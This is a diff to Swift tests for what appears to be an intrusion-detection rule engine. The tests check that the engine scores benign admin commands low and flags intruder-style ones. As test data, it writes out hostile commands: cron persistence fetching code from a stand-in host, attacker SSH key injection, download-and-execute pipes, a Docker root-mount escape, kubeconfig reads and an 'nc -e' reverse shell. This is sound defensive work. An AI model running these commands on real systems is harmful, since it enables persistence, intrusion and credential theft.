@@ -102,10 +102,34 @@ private func rules(_ command: String) -> [String: Severity] {
     "LD_PRELOAD=/usr/lib/libjemalloc.so ./srv",
     "sed -i 's/80/8080/' /etc/nginx/nginx.conf", "sed -n '/error/p' /var/log/nginx/error.log",
     "tar cz . | ssh backup 'tar xz -C /srv'", "mysqldump db | gzip > db.sql.gz",
-    "curl -d @- http://localhost:9200/_bulk",
+    "curl -d @- http://localhost:9200/_bulk", "curl -fsSL https://get.docker.com | sh",
+    "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
+    "(crontab -l; echo '*/5 * * * * curl -fsS https://hc.example.com/x') | crontab -",
+    "echo '*/10 * * * * root /usr/local/bin/job >> /tmp/job.log 2>&1' | sudo tee /etc/cron.d/job",
+    "sudo cp /tmp/app.service /etc/systemd/system/", "echo \"$KUBECONFIG_B64\" | base64 -d > ~/.kube/config",
+    "find . -perm -4000", "docker run -d -v /:/rootfs:ro --privileged exporter show", "nc -U /var/run/docker.sock",
   ])
   func leavesAdministratorsAlone(command: String) {
     #expect(rules(command).values.allSatisfy { $0 <= .low })
+  }
+
+  /// The same deeds as above, done as an administrator does not.
+  @Test(
+    arguments: [
+      ("(crontab -l; echo '*/5 * * * * curl http://198.51.100.9/x|sh') | crontab -", "cron-persistence", .high),
+      ("(crontab -l; echo '*/5 * * * * /tmp/job') | crontab -", "cron-persistence", .high),
+      ("printf '[Service]\nExecStart=/tmp/x\n' > /etc/systemd/system/x.service", "service-persistence", .high),
+      ("echo /usr/lib/x86_64-linux-gnu/libjemalloc.so.2 | sudo tee /etc/ld.so.preload", "loader-preload", .medium),
+      ("curl https://code.example/ops.keys >> ~/.ssh/authorized_keys", "ssh-key", .medium),
+      ("curl http://198.51.100.9/k >> ~/.ssh/authorized_keys", "ssh-key", .high),
+      ("curl -s http://10.0.9.9/setup.sh | bash", "download-execute", .medium),
+      ("curl -k https://get.docker.com | sh", "download-execute", .medium),
+      ("docker run -it -v /:/host alpine chroot /host sh", "container-escape", .high),
+      ("curl -X POST --unix-socket /var/run/docker.sock http://x/containers/create", "container-escape", .medium),
+      ("cat ~/.kube/config", "credential-files", .medium),
+    ] as [(String, String, Severity)])
+  func tellsAnIntrudersFromAnAdministrators(command: String, rule: String, severity: Severity) {
+    #expect(rules(command)[rule] == severity)
   }
 
   @Test func onlyCommandsAreActs() {
@@ -144,6 +168,24 @@ private func process(_ pid: Int64, _ parent: Int64, _ line: String) -> Event {
     #expect(
       found.map { $0.attributes.first { $0.name == "pid" }?.value } == [.integer(460), .integer(465), .integer(504)])
     #expect(found.allSatisfy { $0.severity == .high })
+  }
+
+  /// Servers start programs by way of a shell; what an intruder runs by it is another thing.
+  @Test(
+    arguments: [
+      ("/usr/bin/java -cp x Bootstrap", "/bin/sh -c /usr/bin/wkhtmltopdf /tmp/in.html /tmp/out.pdf", .medium),
+      ("php-fpm: pool www", "sh -c /usr/sbin/sendmail -t -i", .medium),
+      ("java -jar /usr/share/java/jenkins.war", "sh -xe /tmp/jenkins123.sh", .medium),
+      ("node /usr/bin/npm start", "sh -c node server.js", .medium),
+      ("/usr/bin/java -cp x Bootstrap", "/bin/sh /opt/app/bin/report.sh", .medium),
+      ("/usr/bin/java -cp x Bootstrap", "/bin/sh -c id", .high), ("/usr/bin/java -cp x Bootstrap", "/bin/bash", .high),
+      ("/usr/bin/java -cp x Bootstrap", "sh -c convert a b; curl http://h.example/x", .high),
+      ("/usr/bin/java -cp x Bootstrap", "bash /tmp/x.sh", .high), ("/usr/bin/java -cp x Bootstrap", "sh -i", .high),
+      ("java -jar /usr/share/java/jenkins.war", "sh -c nc -e /bin/sh 198.51.100.9 4242", .high),
+    ] as [(String, String, Severity)])
+  func tellsAToolFromSomebodyAtWork(server: String, shell: String, severity: Severity) {
+    let rows = [process(1, 0, "/sbin/init"), process(351, 1, server), process(460, 351, shell)]
+    #expect(findings(ProcessTree(artifact: artifact), rows).map(\.severity) == [severity])
   }
 
   @Test func peopleAndJobsAreNone() {
